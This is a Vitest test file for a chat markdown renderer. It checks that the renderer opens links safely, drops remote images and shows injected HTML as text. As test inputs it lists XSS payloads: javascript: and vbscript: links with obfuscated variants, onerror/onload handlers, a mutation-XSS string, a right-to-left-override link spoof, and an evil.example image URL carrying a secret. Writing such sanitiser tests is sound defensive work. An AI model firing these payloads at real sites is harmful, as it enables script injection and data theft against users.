// @vitest-environment jsdom
import { MARKDOWN_CASES } from "@chat/contract/markdown-cases";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./renderMarkdown.ts";

const render = (text: string) => {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(text);
  return box;
};
/** Without how a link opens, and what a browser adds to tables by itself. */
function shapeOf(text: string): string {
  const box = render(text);
  for (const element of box.querySelectorAll("*"))
    for (const name of element.getAttributeNames())
      if (name !== "href" && name !== "value") element.removeAttribute(name);
  return box.innerHTML.replace(/<\/?tbody>/g, "");
}

describe("renderMarkdown", () => {
  it.each(MARKDOWN_CASES)("draws $source", ({ source, html }) => {
    const expected = document.createElement("div");
    expected.innerHTML = html;
    expect(shapeOf(source)).toBe(expected.innerHTML.replace(/<\/?tbody>/g, ""));
  });

  it("opens links apart, names their address and marks them as somebody's", () => {
    const link = render("[shop](https://shop.example/a?b=1)").querySelector("a");
    expect([link?.getAttribute("href"), link?.title]).toEqual([
      "https://shop.example/a?b=1",
      "https://shop.example/a?b=1",
    ]);
    expect([link?.rel, link?.target]).toEqual(["noopener nofollow ugc", "_blank"]);
    for (const address of ["mailto:a@b.example", "tel:+49301"])
      expect(render(`[x](${address})`).querySelector("a")?.getAttribute("href")).toBe(address);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](&#106;avascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
  ])("X51: never links %j", (text) => expect(render(text).querySelector("a[href]")).toBeNull());

  it.each([
    "![](https://evil.example/?q=secret)",
    "[![x](https://evil.example/1.png)](https://evil.example/2)",
    "<img src=https://evil.example>",
    '<svg><image href="https://evil.example"/></svg>',
  ])("X52: never loads an image of %j", (text) =>
    expect(render(text).querySelector("img,svg,image,picture,video,source,iframe,object,link,style")).toBeNull(),
  );

  it.each([
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><input name=attributes></form>",
    "<iframe src=javascript:alert(1)>",
    '<p style="background:url(https://evil.example)" onclick=alert(1)>x</p>',
  ])("X49: shows %j as text", (text) => {
    const box = render(text);
    for (const element of box.querySelectorAll("*")) {
      expect(element.getAttributeNames().filter((name) => !["href", "rel", "target", "title"].includes(name))).toEqual(
        [],
      );
      expect(["IMG", "SVG", "MATH", "STYLE", "FORM", "INPUT", "IFRAME", "SCRIPT"]).not.toContain(
        element.tagName.toUpperCase(),
      );
    }
    expect(box.textContent).toContain("<");
  });

  it("takes marks that turn the reading direction out of links", () => {
    const link = render("[https://good.example/\u202Emoc.live](https://evil.example)").querySelector("a");
    expect(link?.textContent).not.toMatch(/[\u202A-\u202E]/);
  });

  it("shows no marks of what is still being written", () => {
    const box = document.createElement("div");
    box.innerHTML = renderMarkdown("**bold and [half a li", true);
    expect(box.innerHTML).toBe("<p><strong>bold and </strong></p>");
  });
});
